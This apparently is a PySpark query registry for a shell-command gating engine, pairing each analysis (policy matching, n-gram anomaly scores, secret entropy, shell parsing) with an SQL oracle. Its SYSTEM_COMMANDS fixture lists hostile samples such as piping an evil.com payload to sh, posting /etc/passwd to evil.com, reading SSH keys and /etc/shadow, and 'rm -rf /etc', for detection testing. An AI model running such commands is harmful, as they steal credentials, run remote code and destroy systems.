"""Registered queries of the engine and, where SQL can say them, the SQL.

The driver's tables hold no commands: inputs are derived from them by SQL that both engines run."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import classify, entropy, lattice, normalize, shell, tokens
from ..operators import anomaly, gate, learner, policy, suggest, violations

COMMANDS = """SELECT o_orderkey AS cmd_id, CASE o_orderkey % 7
 WHEN 0 THEN concat('git commit -m msg', CAST(o_custkey % 50 AS STRING))
 WHEN 1 THEN concat('cp /data/', CAST(o_orderkey AS STRING), ' /tmp')
 WHEN 2 THEN concat('kill -s ', CAST(1 + o_orderkey % 31 AS STRING))
 WHEN 3 THEN concat('docker run --rm img', CAST(o_custkey % 9 AS STRING), ':latest')
 WHEN 4 THEN concat('svc', CAST(o_custkey % 7 AS STRING), ' /etc/hosts')
 WHEN 5 THEN concat('head -n ', CAST(o_custkey AS STRING), ' notes.txt')
 ELSE concat('cmd', CAST(o_custkey % 300 AS STRING), ' arg') END AS command FROM orders"""
EVENTS = "SELECT user_id AS seq, row_number() OVER (PARTITION BY user_id ORDER BY ts, event_id) AS pos, event_type AS w FROM events"
#: Plain values, values of more than ASCII, token-like ones and paths.
ENV = """SELECT c_custkey AS id, concat(CASE WHEN c_custkey % 3 = 0 THEN 'API_KEY_' ELSE 'VAR_' END, c_mktsegment) AS name,
 CASE c_custkey % 4 WHEN 0 THEN c_name WHEN 1 THEN concat('é日', c_name, 'ßé') WHEN 2 THEN concat('sk-', md5(c_name)) ELSE concat('/home/', c_name) END AS value FROM customer"""
ALLOW = ["git commit #sopt *", "git commit -m *", "cp #path #path", "cp #p /tmp", "docker run --rm #image", "svc1 #path", "svc2 #p", "head -n #n #f", "kill -s #val", "#val arg", "cmd7 arg"]
DENY = ["kill -s #signal", "cmd13 arg"]
OTHER = ["git commit -m *", "cp #path #path", "svc3 #path", "head #sopt #n #f"]
#: The derived commands' matches, by the text of a pattern, as conditions in SQL.
MATCH_SQL = {
    "git commit #sopt *": "command LIKE 'git commit -m %'", "git commit -m *": "command LIKE 'git commit -m %'", "cp #path #path": "command LIKE 'cp /data/%'", "cp #p /tmp": "command LIKE 'cp /data/%'",
    "docker run --rm #image": "command LIKE 'docker run --rm img%'", "svc1 #path": "command LIKE 'svc1 %'", "svc2 #p": "command LIKE 'svc2 %'", "head -n #n #f": "command LIKE 'head -n %'",
    "kill -s #val": "command LIKE 'kill -s %'", "cmd7 arg": "command = 'cmd7 arg'", "kill -s #signal": "command LIKE 'kill -s %'", "cmd13 arg": "command = 'cmd13 arg'", "#val arg": "false",
}
SYSTEM_COMMANDS = [
    "echo hello > /etc/badfile", "rm -rf /etc", "LD_PRELOAD=mal.so sudo ls", "cat /etc/passwd > /tmp/x ; cat /tmp/x", "echo $(cat /etc/shadow)", "curl http://evil.com/payload | sh",
    "chmod -R 777 /etc", "sudo bash", "sudo cat /etc/shadow > /tmp/out", "cat ~/.ssh/id_rsa", "curl -d @/etc/passwd https://evil.com/collect", "nc -l 4444", "git push --force origin main",
    "echo payload >> ~/.bashrc", "ls -la | sort", "for i in a b; do echo $i; done",
]


def _tables(spark: SparkSession, sf: str, *names: str) -> None:
    for n in names:
        spark.read.parquet(f"{sf}/{n}.parquet").createOrReplaceTempView(n)


def _commands(spark, sf) -> DataFrame:
    _tables(spark, sf, "orders")
    return spark.sql(COMMANDS)


def _events(spark, sf) -> DataFrame:
    _tables(spark, sf, "events")
    return spark.sql(EVENTS)


def _env(spark, sf) -> DataFrame:
    _tables(spark, sf, "customer")
    return spark.sql(ENV)


def _policy(spark, patterns: list[str]) -> DataFrame:
    return policy.parse(spark.createDataFrame([(p,) for p in patterns], "pattern string"))


def _typed(spark, sf) -> DataFrame:
    rows = _commands(spark, sf).select("cmd_id", F.posexplode(normalize.typed_tokens(F.col("command"))).alias("pos", "t"))
    return rows.select("cmd_id", "pos", "t.text", "t.type")


#: SQL of the derived commands' tokens: splitting at spaces and a look-around-free cascade for the forms that occur.
TYPED_SQL = f"""
WITH c AS ({COMMANDS}), s AS (SELECT cmd_id, string_split(command, ' ') AS w FROM c),
e AS (SELECT cmd_id, w, unnest(range(len(w))) AS pos FROM s),
t AS (SELECT cmd_id, pos, w[pos + 1] AS text, CASE WHEN pos > 0 THEN w[pos] END AS prev FROM e),
typed AS (SELECT cmd_id, pos::INT AS pos, text, CASE
  WHEN prev IN ('kill', '-s') AND regexp_full_match(text, '[1-9]|[12][0-9]|3[01]') THEN 'SIGNAL'
  WHEN text LIKE '/_%' THEN 'ABS_PATH' WHEN regexp_full_match(text, '[0-7][4-7][0-7]|[03-7][0-7][0-7][0-7]|[12][4-7][0-7][0-7]') THEN 'PERM_OCTAL'
  WHEN regexp_full_match(text, '-?[0-9]+') THEN 'NUMBER' WHEN regexp_full_match(text, '-[A-Za-z0-9]+') THEN 'SHORTOPT' WHEN regexp_full_match(text, '--[A-Za-z0-9=-]+') THEN 'LONGOPT'
  WHEN text LIKE 'img%:%' THEN 'IMAGE' WHEN text LIKE '%.%' THEN 'FILENAME' ELSE 'LITERAL' END AS type FROM t)
"""
_SYMBOL_SQL = "CASE type " + " ".join(f"WHEN '{t}' THEN '{s}'" for t, s in lattice.SYMBOLS.items() if t != "LITERAL") + " ELSE text END"
_KEY_SQL = "CASE WHEN type = 'LITERAL' THEN text ELSE chr(1) || type END"
_COVERS_SQL = "c(a, b) AS (VALUES " + ", ".join(f"('{a}', '{b}')" for a, b in lattice.covers()) + "), ty(t) AS (VALUES " + ", ".join(f"('{t}')" for t in lattice.TYPES) + "), up AS (SELECT t AS sub, t AS sup FROM ty UNION SELECT up.sub, c.b FROM up JOIN c ON up.sup = c.a)"


def _union_matches(patterns: list[str]) -> str:
    return " UNION ALL ".join(f"SELECT cmd_id, '{p}' AS pattern FROM c WHERE {MATCH_SQL[p]}" for p in patterns)


def _values(rows: list[tuple], names: str) -> str:
    return f"SELECT * FROM (VALUES {', '.join('(' + ', '.join('NULL' if x is None else str(x).lower() if isinstance(x, bool) else repr(x) for x in r) + ')' for r in rows)}) v({names})"


_O = "WITH e AS (" + EVENTS + "), o AS (SELECT seq, pos, w, lag(w, 1) OVER s AS l1, lag(w, 2) OVER s AS l2, lag(w, 3) OVER s AS l3, row_number() OVER s AS i, count(*) OVER (PARTITION BY seq) AS size FROM e WINDOW s AS (PARTITION BY seq ORDER BY pos))"
_GRAMS = {1: "w", 2: "l1, w", 3: "l2, l1, w", 4: "l3, l2, l1, w"}
_N = ", ".join(f"n{k} AS (SELECT {_GRAMS[k]}, count(*) AS n FROM o WHERE i >= {k} GROUP BY ALL)" for k in _GRAMS)
_X = ", ".join(f"x{k} AS (SELECT {_GRAMS[k][:-3]}, sum(n) AS total, count(*) AS kinds FROM n{k} GROUP BY ALL)" for k in (2, 3, 4))
_U = f"u AS (SELECT sum(n) AS t, count(*) AS v FROM n1)"
_LEVEL = lambda k, lower: f"CASE WHEN n{k}.n IS NULL THEN {lower} ELSE greatest(n{k}.n - 0.5, 0) / x{k}.total::DOUBLE + 0.5 * x{k}.kinds / x{k}.total::DOUBLE * {lower} END"
_SCORES = f"""{_O}, {_N}, {_X}, {_U},
p2 AS (SELECT o.seq, o.i, o.size, o.w, o.l1, o.l2, o.l3, {_LEVEL(2, '((n1.n + 0.1) / (u.t + 0.1 * u.v))')} AS p FROM o CROSS JOIN u JOIN n1 ON o.w = n1.w LEFT JOIN n2 ON n2.l1 = o.l1 AND n2.w = o.w LEFT JOIN x2 ON x2.l1 = o.l1),
p3 AS (SELECT p2.* EXCLUDE (p), {_LEVEL(3, 'p2.p')} AS p FROM p2 LEFT JOIN n3 ON n3.l2 = p2.l2 AND n3.l1 = p2.l1 AND n3.w = p2.w LEFT JOIN x3 ON x3.l2 = p2.l2 AND x3.l1 = p2.l1),
p4 AS (SELECT p3.* EXCLUDE (p), {_LEVEL(4, 'p3.p')} AS p FROM p3 LEFT JOIN n4 ON n4.l3 = p3.l3 AND n4.l2 = p3.l2 AND n4.l1 = p3.l1 AND n4.w = p3.w LEFT JOIN x4 ON x4.l3 = p3.l3 AND x4.l2 = p3.l2 AND x4.l1 = p3.l1),
sc AS (SELECT seq, avg(CASE WHEN i >= 4 OR (size = 3 AND i = 3) THEN -log2(p) END) AS score FROM p4 GROUP BY seq)"""
_ENTROPY = lambda n, text="bytes": f"(SELECT sum(-x / t * log2(x / t)) FROM (SELECT count(*)::DOUBLE AS x, sum(count(*)) OVER ()::DOUBLE AS t FROM (SELECT substr({text}, 2 * i - 1, {2 * n}) AS g FROM (SELECT unnest(range(1, length({text}) // 2 - {n} + 2)) AS i)) GROUP BY g))"


def _scored(spark, sf) -> DataFrame:
    events = _events(spark, sf)
    return anomaly.scores(events, anomaly.model(events))


def _rounded(df: DataFrame, *cols: str) -> DataFrame:
    return df.withColumns({c: F.round(c, 6) for c in cols})


def _values_scored(spark, sf) -> DataFrame:
    _tables(spark, sf, "events")
    return spark.sql("SELECT user_id AS gate, row_number() OVER (PARTITION BY user_id ORDER BY ts, event_id) AS at, value AS score, event_type = 'purchase' AS anomalous FROM events")


_VS = "vs AS (SELECT user_id AS gate, row_number() OVER (PARTITION BY user_id ORDER BY ts, event_id) AS \"at\", value AS score, event_type = 'purchase' AS anomalous FROM events)"
THRESHOLDS = [float(x) for x in range(0, 100, 10)]
_ROC = f"""WITH {_VS}, th(threshold) AS (VALUES {', '.join(f'({t}::DOUBLE)' for t in THRESHOLDS)}),
r AS (SELECT threshold, count(*) FILTER (s > threshold AND anomalous) AS tp, count(*) FILTER (s > threshold AND NOT anomalous) AS fp, count(*) FILTER (s <= threshold AND NOT anomalous) AS tn, count(*) FILTER (s <= threshold AND anomalous) AS fn
      FROM th, (SELECT coalesce(score, 'inf'::DOUBLE) AS s, anomalous FROM vs) GROUP BY threshold),
q AS (SELECT *, CASE WHEN tp + fn > 0 THEN tp / (tp + fn)::DOUBLE ELSE 0 END AS tpr, CASE WHEN fp + tn > 0 THEN fp / (fp + tn)::DOUBLE ELSE 0 END AS fpr, CASE WHEN tp + fp > 0 THEN tp / (tp + fp)::DOUBLE ELSE 0 END AS precision FROM r),
f AS (SELECT *, CASE WHEN precision + tpr > 0 THEN 2 * precision * tpr / (precision + tpr) ELSE 0 END AS f1 FROM q)"""


def _curve(spark, sf) -> DataFrame:
    return anomaly.roc(_values_scored(spark, sf), spark.createDataFrame([(t,) for t in THRESHOLDS], "threshold double"))


def _fixed(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(list(enumerate(SYSTEM_COMMANDS)), "cmd_id long, command string")


def _abs_paths(spark, sf) -> DataFrame:
    return _typed(spark, sf).filter("type = 'ABS_PATH'")


def _tokenized(spark, sf) -> DataFrame:
    return tokens.tokenized(_lines(spark, sf))


#: Command lines whose shell tokens SQL can say: a pipeline, a variable, a pattern and a redirect in the order of the customer's key.
LINES = """SELECT c_custkey AS cmd_id, CASE c_custkey % 5
 WHEN 0 THEN concat('cat /data/', CAST(c_custkey AS STRING), ' | sort -n')
 WHEN 1 THEN concat('echo $NAME n', CAST(c_custkey AS STRING), ' > out')
 WHEN 2 THEN 'ls *.txt && wc -l ~/notes'
 WHEN 3 THEN concat('grep "', c_mktsegment, '" src/a.c ; pwd')
 ELSE 'echo $(date) $((1+2)) $1' END AS command FROM customer"""


def _lines(spark, sf) -> DataFrame:
    _tables(spark, sf, "customer")
    return spark.sql(LINES)


def _anomalies(spark, sf) -> DataFrame:
    commands = _lines(spark, sf)
    raw, typed = gate.sequences(commands)
    return gate.anomaly_scores(commands, anomaly.model(raw), anomaly.model(typed), read=(raw, typed))


_PER_LINE = lambda name, *of: f"WITH c AS ({LINES}) SELECT cmd_id, CASE cmd_id % 5 " + " ".join(f"WHEN {i} THEN {x}" for i, x in enumerate(of)) + f" END AS {name} FROM c"
_STAGE_SQL = f"""WITH c AS ({LINES}), v(k, stage, clean, pipe_in, pipe_out, transformed, changed) AS (VALUES
 (0, 0, NULL, false, true, NULL, false), (0, 1, 'sort -n', true, false, 'sort -n', false), (1, 0, NULL, false, false, NULL, true), (2, 0, 'ls *.txt', false, false, 'ls FILE_PATTERN', true),
 (2, 1, 'wc -l ~/notes', false, false, 'wc -l ~/notes', false), (3, 0, NULL, false, false, NULL, false), (3, 1, 'pwd', false, false, 'pwd', false), (4, 0, 'echo $(date) $((1+2)) $1', false, false, 'echo TEMP_FILE VAR_VALUE VAR_VALUE', true)),
s AS (SELECT cmd_id, stage, pipe_in, pipe_out, changed,
  coalesce(clean, CASE k WHEN 0 THEN 'cat /data/' || cmd_id WHEN 1 THEN 'echo $NAME n' || cmd_id ELSE split_part(command, ' ; ', 1) END) AS clean,
  coalesce(transformed, CASE k WHEN 0 THEN 'cat /data/' || cmd_id WHEN 1 THEN 'echo VAR_VALUE n' || cmd_id || ' > out' ELSE split_part(command, ' ; ', 1) END) AS transformed FROM c JOIN v ON k = cmd_id % 5)"""

Query = Callable[[SparkSession, str], DataFrame]
#: name: (query, SQL or None)
QUERIES: dict[str, tuple[Query, str | None]] = {
    "typed_tokens": (_typed, TYPED_SQL + "SELECT * FROM typed"),
    "token_type_histogram": (lambda s, d: _typed(s, d).groupBy("type").agg(F.count(F.lit(1)).alias("n")), TYPED_SQL + "SELECT type, count(*) AS n FROM typed GROUP BY type"),
    "token_type_of_urls": (
        lambda s, d: s.read.parquet(f"{d}/pages.parquet").select("page_id", classify.token_type(F.col("url")).alias("type")),
        "SELECT page_id, CASE WHEN url IS NULL THEN NULL WHEN url LIKE '/_%' THEN 'ABS_PATH' WHEN regexp_matches(url, '^[A-Za-z][A-Za-z0-9+.-]*://') THEN 'URL' WHEN url LIKE '%/%' THEN 'REL_PATH' ELSE 'LITERAL' END AS type FROM pages",
    ),
    "legacy_normalize": (
        lambda s, d: _commands(s, d).select("cmd_id", F.array_join(normalize.shown(normalize.typed_tokens(F.col("command"))), " ").alias("shown")),
        TYPED_SQL + f"SELECT cmd_id, string_agg({_SYMBOL_SQL}, ' ' ORDER BY pos) AS shown FROM typed GROUP BY cmd_id",
    ),
    "path_category": (
        lambda s, d: _abs_paths(s, d).groupBy(classify.path_category(F.col("text")).alias("category")).agg(F.count(F.lit(1)).alias("n")),
        TYPED_SQL + "SELECT CASE split_part(text, '/', 2) WHEN 'etc' THEN 'ETC' WHEN 'tmp' THEN 'TMP' ELSE 'OTHER' END AS category, count(*) AS n FROM typed WHERE type = 'ABS_PATH' GROUP BY 1",
    ),
    "lattice_closure": (lambda s, d: lattice.closure(s), f"WITH RECURSIVE {_COVERS_SQL} SELECT sub, sup FROM up"),
    "lattice_join_table": (
        lambda s, d: lattice.join_table(s),
        f"WITH RECURSIVE {_COVERS_SQL}, k AS (SELECT sub, count(*) AS n FROM up GROUP BY sub), m AS (SELECT x.sub AS a, y.sub AS b, x.sup AS u, n FROM up x JOIN up y ON x.sup = y.sup JOIN k ON k.sub = x.sup) SELECT a, b, arg_max(u, n) AS j FROM m GROUP BY a, b",
    ),
    "policy_match_all": (lambda s, d: policy.match_all(_commands(s, d), _policy(s, ALLOW)), f"WITH c AS ({COMMANDS}) {_union_matches(ALLOW)}"),
    "policy_match_best": (
        lambda s, d: policy.match_best(_commands(s, d), _policy(s, ALLOW)),
        f"WITH c AS ({COMMANDS}), m AS ({_union_matches([p for p in ALLOW if p not in ('git commit -m *', 'cp #p /tmp')])}) SELECT c.cmd_id, command, p AS pattern FROM c LEFT JOIN (SELECT cmd_id, min(pattern) AS p FROM m GROUP BY cmd_id) USING (cmd_id)",
    ),
    "policy_unmatched": (
        lambda s, d: policy.match_best(_commands(s, d), _policy(s, ALLOW)).filter("pattern is null").select("cmd_id", "command"),
        f"WITH c AS ({COMMANDS}), m AS ({_union_matches(ALLOW)}) SELECT cmd_id, command FROM c WHERE cmd_id NOT IN (SELECT cmd_id FROM m)",
    ),
    "policy_antichain": (lambda s, d: policy.antichain(_policy(s, ALLOW)).select("pattern"), _values([(p,) for p in ALLOW if p not in ("git commit -m *", "cp #p /tmp")], "pattern")),
    "policy_merge": (
        lambda s, d: policy.merge(_policy(s, ALLOW), _policy(s, OTHER)).select("pattern"),
        _values([(p,) for p in dict.fromkeys(ALLOW + OTHER) if p not in ("git commit -m *", "cp #p /tmp", "head -n #n #f")], "pattern"),
    ),
    "policy_diff_added": (lambda s, d: policy.diff(_policy(s, ALLOW), _policy(s, OTHER))[0], _values([("svc3 #path",), ("head #sopt #n #f",)], "pattern")),
    "policy_diff_removed": (lambda s, d: policy.diff(_policy(s, ALLOW), _policy(s, OTHER))[1], _values([(p,) for p in ALLOW if p not in OTHER], "pattern")),
    "policy_simulate_add": (
        lambda s, d: policy.simulate_add(_policy(s, ALLOW), _policy(s, OTHER + ["kill -s 9"])),
        _values([("git commit -m *", True, "git commit #sopt *"), ("cp #path #path", True, "cp #path #path"), ("svc3 #path", False, None), ("head #sopt #n #f", False, None), ("kill -s 9", True, "kill -s #val")], 'pattern, redundant, "by"'),
    ),
    "deny_then_allow_verdict": (
        lambda s, d: policy.verdicts(_commands(s, d), _policy(s, ALLOW), _policy(s, DENY)),
        f"WITH c AS ({COMMANDS}), a AS ({_union_matches(ALLOW)}), n AS ({_union_matches(DENY)}) SELECT cmd_id, CASE WHEN cmd_id IN (SELECT cmd_id FROM n) THEN 'DENY' WHEN cmd_id IN (SELECT cmd_id FROM a) THEN 'ALLOW' ELSE 'UNDETERMINED' END AS verdict FROM c",
    ),
    "expansion_variants": (lambda s, d: policy.expansions(_commands(s, d)), None),
    "prefix_rollup": (
        lambda s, d: learner.prefix_counts(_commands(s, d)).select(F.array_join("prefix", " ").alias("prefix"), "depth", "n", "ends"),
        TYPED_SQL + f", k AS (SELECT cmd_id, pos, {_KEY_SQL} AS key, max(pos) OVER (PARTITION BY cmd_id) AS last FROM typed), x AS (SELECT cmd_id, pos, last, string_agg(key, ' ') OVER (PARTITION BY cmd_id ORDER BY pos) AS prefix FROM k) SELECT prefix, (pos + 1)::INT AS depth, count(*) AS n, count(*) FILTER (pos = last) AS ends FROM x GROUP BY prefix, pos",
    ),
    "suggestions_topk": (lambda s, d: learner.suggestions(_commands(s, d), 5), None),
    **{
        f"ngram_{k}": (lambda s, d, k=k: anomaly.ngram_counts(_events(s, d), k), f"{_O}, {_N} SELECT * FROM n{k}") for k in _GRAMS
    },
    **{
        f"ngram_context_totals_{k}": (lambda s, d, k=k: anomaly.context_totals(anomaly.ngram_counts(_events(s, d), k), k), f"{_O}, {_N}, {_X} SELECT {_GRAMS[k][:-3]}, total::BIGINT AS total, kinds FROM x{k}") for k in (2, 3, 4)
    },
    "ngram_decay": (lambda s, d: anomaly.decay(anomaly.ngram_counts(_events(s, d), 2), 0.5), f"{_O}, {_N} SELECT l1, w, floor(n * 0.5)::BIGINT AS n FROM n2 WHERE floor(n * 0.5) >= 1"),
    "ngram_prune": (lambda s, d: anomaly.prune(anomaly.ngram_counts(_events(s, d), 4), 2), f"{_O}, {_N} SELECT * FROM n4 WHERE n >= 2"),
    "kn_score_per_sequence": (lambda s, d: _rounded(_scored(s, d), "score"), f"{_SCORES} SELECT seq, round(score, 6) AS score FROM sc"),
    "score_histogram_cdf": (
        lambda s, d: anomaly.histogram(_scored(s, d)),
        f"{_SCORES}, h AS (SELECT least(floor(score / 50.0 * 128), 127)::INT AS bucket, count(*) AS n FROM sc WHERE score >= 0 GROUP BY 1) SELECT bucket, n, coalesce(sum(n) OVER (ORDER BY bucket ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0)::BIGINT AS below FROM h",
    ),
    "bayes_log_odds": (
        lambda s, d: _rounded(anomaly.log_odds(anomaly.histogram(_scored(s, d))), "odds"),
        f"{_SCORES}, h AS (SELECT least(floor(score / 50.0 * 128), 127)::INT AS bucket, count(*) AS n FROM sc WHERE score >= 0 GROUP BY 1), g AS (SELECT bucket, (coalesce(sum(n) OVER (ORDER BY bucket ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) + 0.5::DOUBLE * n + 0.5::DOUBLE) / (sum(n) OVER () + 1.0::DOUBLE) AS f FROM h) SELECT bucket, round(ln(f / (1 - f)), 6) AS odds FROM g",
    ),
    "adaptive_threshold_window": (
        lambda s, d: _rounded(anomaly.adaptive_thresholds(_values_scored(s, d).drop("anomalous"), 5, 3.0), "threshold"),
        f"WITH {_VS} SELECT gate, \"at\", score, round(CASE WHEN count(score) OVER w = 5 THEN avg(score) OVER w + 3.0 * stddev_pop(score) OVER w END, 6) AS threshold FROM vs WINDOW w AS (PARTITION BY gate ORDER BY \"at\" ROWS BETWEEN 5 PRECEDING AND 1 PRECEDING)",
    ),
    "roc_curve": (lambda s, d: _rounded(_curve(s, d), "tpr", "fpr", "precision", "f1"), f"{_ROC} SELECT threshold, tp, fp, tn, fn, round(tpr, 6) AS tpr, round(fpr, 6) AS fpr, round(precision, 6) AS precision, round(f1, 6) AS f1 FROM f"),
    "roc_auc": (
        lambda s, d: _rounded(anomaly.auc(_curve(s, d)), "auc"),
        f"{_ROC}, p AS (SELECT fpr, tpr FROM f UNION ALL VALUES (0.0::DOUBLE, 0.0::DOUBLE), (1.0::DOUBLE, 1.0::DOUBLE)) SELECT round(sum(a), 6) AS auc FROM (SELECT (fpr - lag(fpr) OVER (ORDER BY fpr, tpr)) * (tpr + lag(tpr) OVER (ORDER BY fpr, tpr)) / 2 AS a FROM p)",
    ),
    "best_f1_threshold": (lambda s, d: _rounded(anomaly.best_f1(_curve(s, d)), "f1"), f"{_ROC} SELECT threshold, round(f1, 6) AS f1 FROM f ORDER BY f.f1 DESC, threshold LIMIT 1"),
    "shannon_entropy": (lambda s, d: _env(s, d).select("id", F.round(entropy.shannon_entropy(F.col("value")), 6).alias("h")), f"WITH v AS (SELECT id, hex(value) AS bytes FROM ({ENV})) SELECT id, round({_ENTROPY(1)}, 6) AS h FROM v"),
    "bigram_entropy": (lambda s, d: _env(s, d).select("id", F.round(entropy.ngram_entropy(F.col("value"), 2), 6).alias("h")), f"WITH v AS (SELECT id, hex(value) AS bytes FROM ({ENV})) SELECT id, round({_ENTROPY(2)}, 6) AS h FROM v"),
    "conditional_entropy": (
        lambda s, d: _env(s, d).select("id", F.round(entropy.conditional_entropy(F.col("value")), 6).alias("h")),
        f"WITH v AS (SELECT id, hex(value) AS bytes FROM ({ENV})), z AS (SELECT id, bytes, substr(bytes, 1, length(bytes) - 2) AS head FROM v) SELECT id, round(greatest({_ENTROPY(2)} - {_ENTROPY(1, 'head')}, 0), 6) AS h FROM z",
    ),
    "secret_posterior": (lambda s, d: entropy.secret_scores(_env(s, d)).select("id", F.round("posterior", 9).alias("posterior")), None),
    "env_screen": (lambda s, d: entropy.screen(_env(s, d)).select("id", "name"), None),
    "sub_commands": (lambda s, d: shell.subcommands(_fixed(s)), None),
    "dependency_graph": (lambda s, d: shell.graph_edges(shell.graphs(_fixed(s))), None),
    "reject_mask": (lambda s, d: gate.rejected(_fixed(s)), "SELECT 15::BIGINT AS cmd_id, 'loops not allowed' AS reason"),
    "type_sequences": (lambda s, d: tokens.type_sequence(_tokenized(s, d)), _PER_LINE("sequence", "'cat AP | sort OPT'", "'echo EV STR'", "'ls GB | wc OPT HP'", "'grep STR RP | pwd'", "'echo CS AR PV'")),
    "abstractions": (
        lambda s, d: tokens.abstracted(_tokenized(s, d)).select("cmd_id", "abstracted"),
        _PER_LINE("abstracted", "'cat $AP_1 | sort -n'", "'echo $EV_1 n' || cmd_id || ' > $RD_1'", "'ls $GB_1 && wc -l $HP_1'", "'grep $STR_1 $RP_1 ; pwd'", "'echo $CS_1 $AR_1 $PV_1'"),
    ),
    "stage_texts": (lambda s, d: tokens.processed(_tokenized(s, d)).select("cmd_id", "stage", "clean", "pipe_in", "pipe_out"), f"{_STAGE_SQL} SELECT cmd_id, stage, clean, pipe_in, pipe_out FROM s"),
    "transforms": (lambda s, d: tokens.transformed(_tokenized(s, d)), f"{_STAGE_SQL} SELECT cmd_id, stage, transformed, changed FROM s"),
    "shell_token_histogram": (
        lambda s, d: tokens.tokens(_tokenized(s, d)).groupBy("type").agg(F.count(F.lit(1)).alias("n")),
        f"""WITH c AS ({LINES}), v(k, type, m) AS (VALUES (0, 'COMMAND', 2), (0, 'ARGUMENT', 2), (0, 'PIPE', 1), (1, 'COMMAND', 1), (1, 'VARIABLE', 1), (1, 'ARGUMENT', 2), (1, 'REDIRECT_OUT', 1), (2, 'COMMAND', 2), (2, 'GLOB', 1), (2, 'AND', 1), (2, 'ARGUMENT', 2),
 (3, 'COMMAND', 2), (3, 'ARGUMENT', 2), (3, 'SEMICOLON', 1), (4, 'COMMAND', 1), (4, 'SUBSHELL', 1), (4, 'ARITHMETIC', 1), (4, 'SPECIAL_VAR', 1)) SELECT type, sum(m)::BIGINT AS n FROM c JOIN v ON k = cmd_id % 5 GROUP BY type""",
    ),
    "unmatched_offers": (lambda s, d: suggest.unmatched(_commands(s, d), _policy(s, ALLOW)), None),
    "token_variants": (lambda s, d: suggest.token_variants(s.createDataFrame([(p,) for p in ALLOW], "pattern string"), 1), None),
    "graph_problems": (lambda s, d: shell.graph_problems(shell.graphs(_lines(s, d))).select("cmd_id", F.size("problems").alias("n")), f"SELECT cmd_id, 0 AS n FROM ({LINES})"),
    "gate_anomaly": (lambda s, d: _rounded(_anomalies(s, d), "raw", "typed", "score"), None),
    "violation_rules": (lambda s, d: violations.violations(shell.graphs(_fixed(s))).select("cmd_id", "rule", "severity"), None),
    "gate_verdicts": (lambda s, d: gate.evaluate(_commands(s, d), _policy(s, ALLOW), _policy(s, DENY)).select("cmd_id", "verdict"),
        f"WITH c AS ({COMMANDS}), a AS ({_union_matches(ALLOW)}), n AS ({_union_matches(DENY)}) SELECT cmd_id, CASE WHEN cmd_id IN (SELECT cmd_id FROM n) THEN 'DENY' WHEN cmd_id IN (SELECT cmd_id FROM a) THEN 'ALLOW' ELSE 'UNDETERMINED' END AS verdict FROM c"),
}


def queries() -> dict[str, Query]:
    return {k: q for k, (q, _) in QUERIES.items()}


def oracle_sql() -> dict[str, str]:
    return {k: sql for k, (_, sql) in QUERIES.items() if sql}
